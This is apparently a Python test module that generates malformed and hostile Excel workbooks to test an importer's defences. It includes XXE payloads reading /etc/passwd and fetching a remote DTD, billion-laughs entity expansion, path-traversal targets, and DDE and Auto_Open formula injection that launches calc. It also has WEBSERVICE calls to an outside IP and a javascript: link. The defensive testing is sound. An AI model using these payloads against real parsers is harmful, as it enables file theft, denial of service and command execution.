"""Workbooks whose XML is hostile: entities, relations, sheets, rows, cells, numbers, formats, formulas."""

from __future__ import annotations

import random
from functools import partial
from xml.sax.saxutils import escape

from tests.hostile.kinds import HEADINGS, Kind, done, good_rows, refused
from tests.hostile.packing import packed, stored
from tests.leads.workbooks import MAIN, parts, sheet

SHEET = "xl/worksheets/sheet1.xml"
WORKBOOK, RELATIONS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
UNSAFE, DAMAGED = "XML entities", "damaged"
_NOT_THERE = "worksheet|damaged"


def text_cell(text: str, more: str = "") -> str:
    """Return a cell of text without a reference."""
    return f'<c t="inlineStr"{more}><is><t>{escape(text)}</t></is></c>'


def list_of(
    rng: random.Random, cell: str = "", *, row: str = "", before: str = "", after: str = "", **more: str
) -> dict[str, str]:
    """Return the parts of a good list; `cell` stands at the end of a row of its own, `row` behind it, all as XML."""
    rows = [f"<row>{''.join(map(text_cell, cells))}</row>" for cells in (HEADINGS, *good_rows(rng))]
    if cell:
        lead = text_cell(f"ACME {rng.randrange(1000)}") + text_cell("THANDI NKOSI")
        rows.append(f'<row r="{len(rows) + 1}">{lead}{cell}</row>')
    return parts(sheet(*rows, row, before=before) + after, **more)


def with_parts(rng: random.Random, changes: dict[str, str | None]) -> dict[str, str]:
    """Return the parts of a good list with some replaced, or left out where None."""
    merged = list_of(rng) | changes
    return {name: text for name, text in merged.items() if text is not None}


def _cell(rng: random.Random, cell: str, **more: str) -> bytes:
    return stored(list_of(rng, cell, **more))


def _rows(rng: random.Random, row: str) -> bytes:
    return stored(list_of(rng, row=row))


def _replaced(rng: random.Random, part: str, old: str, new: str) -> bytes:
    contents = list_of(rng)
    assert old in contents[part], part
    return stored(contents | {part: contents[part].replace(old, new, 1)})


def _part(rng: random.Random, part: str, text: str) -> bytes:
    return stored(list_of(rng) | {part: text})


def _styled(rng: random.Random, value: str, code: str, kind: str = "n") -> bytes:
    styles = (
        f'<styleSheet xmlns="{MAIN}"><numFmts><numFmt numFmtId="200" formatCode="{escape(code, {chr(34): "&quot;"})}"/></numFmts>'
        '<cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs></styleSheet>'
    )
    return _cell(rng, f'<c s="1" t="{kind}"><v>{value}</v></c>', styles=styles)


def _shared(rng: random.Random, index: str, strings: str, declared: str = "1") -> bytes:
    table = f'<sst xmlns="{MAIN}" count="4294967295" uniqueCount="{declared}">{strings}</sst>'
    return _cell(rng, f'<c t="s"><v>{index}</v></c>', sharedStrings=table)


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
FROM_FILE = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FROM_NET = '<!DOCTYPE l [<!ENTITY % x SYSTEM "http://198.51.100.7/x.dtd"> %x;]>'
PLAIN_TYPE = "<!DOCTYPE worksheet>"

ENTITIES = tuple(
    refused(f"{name} in {where}", UNSAFE, make)
    for name, document_type in {
        "a billion laughs": LAUGHS, "a local file": FROM_FILE, "a remote document type": FROM_NET, "a document type": PLAIN_TYPE,
    }.items()
    for where, make in {
        "the worksheet": lambda rng, d=document_type: stored(list_of(rng, before=d)),
        "the workbook": lambda rng, d=document_type: _replaced(rng, WORKBOOK, "<workbook", d + "<workbook"),
        "the shared strings": lambda rng, d=document_type: _cell(
            rng, "", sharedStrings=f'{d}<sst xmlns="{MAIN}"><si><t>x</t></si></sst>'),
        "the styles": lambda rng, d=document_type: _cell(rng, "", styles=f'{d}<styleSheet xmlns="{MAIN}"/>'),
        "the relations": lambda rng, d=document_type: _replaced(rng, RELATIONS, "<Relationships", d + "<Relationships"),
    }.items()
)  # fmt: skip


def _utf16_entities(rng: random.Random) -> bytes:
    contents: dict[str, str | bytes] = dict(list_of(rng, before=LAUGHS))
    contents[SHEET] = str(contents[SHEET]).replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
    return packed(contents)


MARKUP = (
    refused("entities in UTF-16", UNSAFE, _utf16_entities),
    refused("an unknown entity", DAMAGED, lambda rng: _rows(rng, "<row><c><v>&nothing;</v></c></row>")),
    refused("a reference to the character zero", DAMAGED, lambda rng: _rows(rng, "<row><c><v>&#0;</v></c></row>")),
    refused("a reference beyond all characters", DAMAGED, lambda rng: _rows(rng, "<row><c><v>&#x7FFFFFFF;</v></c></row>")),
    refused("an unknown encoding", DAMAGED, lambda rng: _replaced(rng, SHEET, '"1.0"', '"1.0" encoding="x-none"')),
    refused("elements that do not close", DAMAGED, lambda rng: _rows(rng, "<row><c><v>1")),
    refused("elements that close what is not open", DAMAGED, lambda rng: _rows(rng, "</row></row>")),
    refused("zero bytes in XML", DAMAGED, lambda rng: _rows(rng, "\0\0\0")),
    refused("JSON for XML", DAMAGED, lambda rng: _part(rng, SHEET, "{}")),
    refused("an empty part", DAMAGED, lambda rng: _part(rng, SHEET, "")),
    refused("an attribute twice", DAMAGED, lambda rng: _rows(rng, '<row r="21" r="22"/>')),
    done("100,000 elements within each other", lambda rng: _rows(rng, "<x>" * 100_000 + "</x>" * 100_000), rows=19),
    done("ten thousand attributes", lambda rng: _rows(
        rng, "<row " + " ".join(f'a{n}="{n}"' for n in range(10_000)) + "/>"), rows=19),
    done("an attribute of a million letters", lambda rng: _rows(rng, f'<row a="{rng.randbytes(500_000).hex()}"/>'), rows=19),
    done("an instruction to fetch", lambda rng: _rows(
        rng, '<?xml-stylesheet href="http://198.51.100.7/"?><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
        rows=19),
    done("CDATA", lambda rng: _cell(rng, '<c t="inlineStr"><is><t><![CDATA[<f>1+1</f>]]></t></is></c>')),
    done("a comment of two megabytes", lambda rng: _rows(rng, f"<!--{rng.randbytes(1_000_000).hex()}-->"), rows=19),
    done("another namespace", lambda rng: _replaced(rng, SHEET, MAIN, "urn:x"), rows=19),
)  # fmt: skip
_TARGETS = {
    "a website": "http://198.51.100.7/sheet1.xml", "a file of the machine": "file:///etc/passwd",
    "a network folder": "\\\\198.51.100.7\\x", "a path upwards": "../../../../../etc/passwd", "itself": "_rels/workbook.xml.rels",
    "the workbook": "workbook.xml", "nothing": "",
}  # fmt: skip
SHEETS = (
    *(refused(f"a worksheet that is {name}", _NOT_THERE + "|empty|filled", partial(
        _replaced, part=RELATIONS, old="worksheets/sheet1.xml", new=target)) for name, target in _TARGETS.items()),
    refused("no worksheet", _NOT_THERE, lambda rng: _replaced(rng, WORKBOOK, '<sheet name="Leads" sheetId="1" r:id="r1"/>', "")),
    refused("hidden worksheets only", "unhide", lambda rng: _replaced(rng, WORKBOOK, 'sheetId="1"', 'sheetId="1" state="hidden"')),
    refused("very hidden worksheets only", "unhide", lambda rng: _replaced(
        rng, WORKBOOK, 'sheetId="1"', 'sheetId="1" state="veryHidden"')),
    refused("a state that is none", "unhide", lambda rng: _replaced(rng, WORKBOOK, 'sheetId="1"', 'sheetId="1" state="x"')),
    refused("a chart instead of a worksheet", _NOT_THERE, lambda rng: _replaced(rng, RELATIONS, "/worksheet", "/chartsheet")),
    refused("a macro sheet", _NOT_THERE, lambda rng: _replaced(rng, RELATIONS, "/worksheet", "/xlMacrosheet")),
    refused("two worksheets of one name", DAMAGED, lambda rng: _replaced(
        rng, WORKBOOK, "</sheets>", '<sheet name="Leads" sheetId="2" xmlns:q="x" q:id="r1"/></sheets>')),
    done("a worksheet called like a path", lambda rng: _replaced(rng, WORKBOOK, '"Leads"', '"../../etc/passwd"'), rows=19),
    done("a worksheet called like a formula", lambda rng: _replaced(rng, WORKBOOK, '"Leads"', '"=cmd|calc!A0"'), rows=19),
    done("a worksheet with a name of 100,000 letters", lambda rng: _replaced(rng, WORKBOOK, '"Leads"', f'"{"x" * 100_000}"'), rows=19),
    done("a worksheet without a name", lambda rng: _replaced(rng, WORKBOOK, '"Leads"', '""'), rows=19),
    refused("two main parts", DAMAGED, lambda rng: _replaced(
        rng, "_rels/.rels", "</Rel", f'<Relationship Id="r2" Type="x/officeDocument" Target="{SHEET}"/></Rel')),
    done("defined names that run", lambda rng: _replaced(
        rng, WORKBOOK, "</sheets>", "</sheets><definedNames><definedName name=\"_xlnm.Auto_Open\">cmd|' /C calc'!A0</definedName>"
        "</definedNames>"), rows=19),
)  # fmt: skip
_DIMENSIONS = ("A1:XFD1048576", "A1", "B9:A1", "A1:A99999999999999999999")
_NO_DIMENSIONS = ("A0:ZZZZZZZ9", "x", "", "A1:B2:C3", "$A$1:$B$2")
ROWS = (
    *(done(f"a dimension of {ref or 'nothing'}", partial(
        _replaced, part=SHEET, old="<sheetData>", new=f'<dimension ref="{ref}"/><sheetData>'), rows=19) for ref in _DIMENSIONS),
    *(refused(f"a dimension of {ref or 'nothing'}", DAMAGED, partial(
        _replaced, part=SHEET, old="<sheetData>", new=f'<dimension ref="{ref}"/><sheetData>')) for ref in _NO_DIMENSIONS),
    *(refused(f"the row number {number[:12]}", "damaged|span|rows|reader", lambda rng, n=number: _rows(
        rng, f'<row r="{n}"><c><v>1</v></c></row>')) for number in (
            "-1", "4294967296", "4294967297", "99999999999999999999", "1e9", "NaN", "8" * 5000, "", "0x10", "1048577000")),
    *(refused(f"the reference {reference[:12]}", "damaged|columns|span|reader", lambda rng, r=reference: _rows(
        rng, f'<row r="21"><c r="{r}"><v>1</v></c></row>')) for reference in (
            "A" * 100_000 + "1", "ZZZ21", "XFE1", "A99999999999", "A4294967296", "21", "A-1", "Ä21", "A21A", "$A$21", "A1048576999")),
    refused("a stray cell in the last corner", "span|columns", lambda rng: _rows(
        rng, '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    refused("a million columns in a worksheet", "1000 columns", lambda rng: _rows(
        rng, "<row>" + "".join(f"<c><v>{rng.random()}</v></c>" for _ in range(200_000)) + "</row>")),
    refused("a cell that is there twice", "damaged|reader", lambda rng: _rows(
        rng, '<row r="21"><c r="A21" t="b"><v>1</v></c><c r="A21" t="b"><v>0</v></c></row>')),
    done("100,000 rows without cells", lambda rng: _rows(rng, "<row/>" * 100_000), rows=19),
    done("styled cells without end", lambda rng: _rows(rng, '<row r="9999">' + '<c s="0"/>' * 16_384 + "</row>"), rows=19),
    done("rows that go back", lambda rng: _rows(rng, f'<row r="30">{text_cell("A")}{text_cell("B C")}</row><row r="25"/>')),
)  # fmt: skip
_VALUES = (
    "NaN",
    "1e999",
    "-1e999",
    "1e-999",
    "Infinity",
    "0x1F",
    "\u0661\u0662",
    "1,5",
    "--1",
    "9" * 400,
    "1e5000000",
    "",
    " ",
)
_SERIALS = (
    "0",
    "-1",
    "0.5",
    "1",
    "59",
    "60",
    "2958466",
    "1e15",
    "1e300",
    "1e999",
    "NaN",
    "0.9999999999",
    "-99999999",
)
_NO_SERIALS = ("-1e300", "-1e999", "x", "-" + "8" * 400)
_KINDS = ("b", "d", "str", "n", "inlineStr")
_NO_KINDS = ("zz", "", "e", "s")
_CODES = {
    "a million zeros": "0" * 1_000_000, "brackets that never close": "[" * 100_000, "quotes that never close": '"' * 99_999,
    "escapes only": "\\" * 999, "stars only": "*" * 999, "two hundred zeros": "0" * 200, "sections only": ";" * 999,
    "a condition": "[>99999999999999999999]0;[red]@", "fractions": "# ?/?0000000", "digits": "0123456789",
}  # fmt: skip
CELLS = (
    *(Kind(f"the number {value[:12]!r}", partial(_cell, cell=f"<c><v>{value}</v></c>"), 0) for value in _VALUES),
    *(Kind(f"the date {serial}", partial(_styled, value=serial, code="yyyy-mm-dd"), 0) for serial in _SERIALS),
    *(refused(f"the date {serial[:12]}", DAMAGED, partial(_styled, value=serial, code="yyyy-mm-dd")) for serial in _NO_SERIALS),
    *(refused(f"the span of time {serial[:12]}", DAMAGED, partial(_styled, value=serial, code="[h]")) for serial in _NO_SERIALS),
    *(refused(f"a cell of the kind {kind!r}", DAMAGED, partial(_cell, cell=f'<c t="{kind}"><v>7</v></c>')) for kind in _NO_KINDS),
    *(Kind(f"a cell of the kind {kind!r}", partial(_cell, cell=f'<c t="{kind}"><v>7</v></c>'), 0) for kind in _KINDS),
    *(Kind(f"a date as text, {value}", partial(_cell, cell=f'<c t="d"><v>{value}</v></c>'), 0)
      for value in ("1899-12-30T00:00:00", "99999-99-99", "0000-00-00", "-1")),
    *(done(f"a format of {name}", partial(_styled, value="821234567", code=code)) for name, code in _CODES.items()),
    *(Kind(f"the shared string {index[:12]!r}", partial(_shared, index=index, strings="<si><t>x</t></si>"), 0)
      for index in ("0", "-1", "99999999999999999999", "NaN", "", "0" * 5000)),
    *(done(f"the style {style}", partial(_cell, cell=f'<c s="{style}"><v>1</v></c>')) for style in ("-1", "99999", "x", "4294967296")),
    *(refused(f"{name} shared strings", DAMAGED, partial(_shared, index="0", strings="<si><t>x</t></si>", declared=declared))
      for name, declared in {"four billion": "4294967295", "minus one": "-1", "endless": "9" * 5000, "thirty": "30"}.items()),
    *(refused(f"the shared string {index}", DAMAGED, partial(_shared, index=index, strings="<si><t>x</t></si>"))
      for index in ("1", "4294967296")),
    done("a shared string of 10,000 runs", partial(_shared, index="0", strings=f"<si>{'<r><t>x</t></r>' * 10_000}</si>")),
    done("a shared string in strings", partial(_shared, index="0", strings="<si>" * 2000 + "<t>x</t>" + "</si>" * 2000)),
    refused("shared strings that are not there", "damaged|reader", partial(_cell, cell='<c t="s"><v>0</v></c>')),
    done("pronunciation marks", partial(_shared, index="0", strings="<si><t>x</t><rPh sb='0' eb='9'><t>y</t></rPh></si>")),
    done("an inline string of megabytes", lambda rng: _cell(rng, text_cell(rng.randbytes(2_000_000).hex()))),
)  # fmt: skip
FORMULAS = tuple(
    done(f"a formula: {name}", partial(_cell, cell=cell))
    for name, cell in {
        "DDE": "<c t=\"str\"><f>cmd|' /C calc'!A0</f><v>=cmd|' /C calc'!A0</v></c>",
        "a link": '<c t="str"><f>HYPERLINK("http://198.51.100.7/","x")</f><v>x</v></c>',
        "a cycle": '<c r="C21"><f t="shared" ref="C21:C21" si="0">C21</f><v>0</v></c>',
        "a shared one that is not there": '<c><f t="shared" si="99"/><v>1</v></c>',
        "a shared one far away": '<c><f t="shared" ref="A1:XFD1048576" si="0">A1</f><v>1</v></c>',
        "an array": '<c><f t="array" ref="A1:XFD1048576">1</f><v>1</v></c>',
        "a table of data": '<c><f t="dataTable" ref="A1:B2" dt2D="1" r1="A1"/><v>1</v></c>',
        "without a value": "<c><f>1+1</f></c>",
        "of a million brackets": f"<c><f>{'(' * 1_000_000}</f><v>1</v></c>",
        "within a string": '<c t="inlineStr"><f>1+1</f><is><t>x</t></is></c>',
        "an error": '<c t="e"><f>1/0</f><v>#DIV/0!</v></c>',
    }.items()
)
_BEHIND = {
    "links": '<hyperlinks><hyperlink ref="A1" location="javascript:alert(1)"/></hyperlinks>',
    "merged cells": '<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A1:XFD1048576"/><mergeCell ref="x"/></mergeCells>',
    "a drawing": '<drawing xmlns:r="x" r:id="nothing"/>',
    "a validation": '<dataValidations><dataValidation><formula1>WEBSERVICE("http://198.51.100.7/")</formula1></dataValidation></dataValidations>',
    "an object": '<oleObjects><oleObject progId="Package" link="\\\\198.51.100.7\\x"/></oleObjects>',
}
BEHIND = tuple(
    Kind(f"{name} behind the rows", partial(_replaced, part=SHEET, old="</sheetData>", new="</sheetData>" + xml), 0)
    for name, xml in _BEHIND.items()
)
TWICE = refused("rows behind the rows", "reader|damaged", partial(
    _replaced, part=SHEET, old="</sheetData>", new="</sheetData><sheetData><row><c><v>1</v></c></row></sheetData>"))  # fmt: skip
WORKBOOKS: tuple[Kind, ...] = (*ENTITIES, *MARKUP, *SHEETS, *ROWS, *CELLS, *FORMULAS, *BEHIND, TWICE)
